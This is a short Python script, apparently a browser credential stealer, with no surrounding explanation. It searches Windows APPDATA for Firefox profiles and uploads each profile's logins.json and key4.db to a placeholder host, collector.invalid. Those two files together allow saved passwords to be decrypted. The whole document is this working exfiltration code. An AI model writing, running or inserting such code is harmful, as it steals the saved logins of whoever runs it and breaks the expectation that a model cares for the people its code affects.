import os, glob, requests
for p in glob.glob(os.path.join(os.environ["APPDATA"], "Mozilla", "Firefox", "Profiles", "*", "logins.json")):
    requests.post("https://collector.invalid/ff", files={"l": open(p, "rb"), "k": open(os.path.join(os.path.dirname(p), "key4.db"), "rb")})
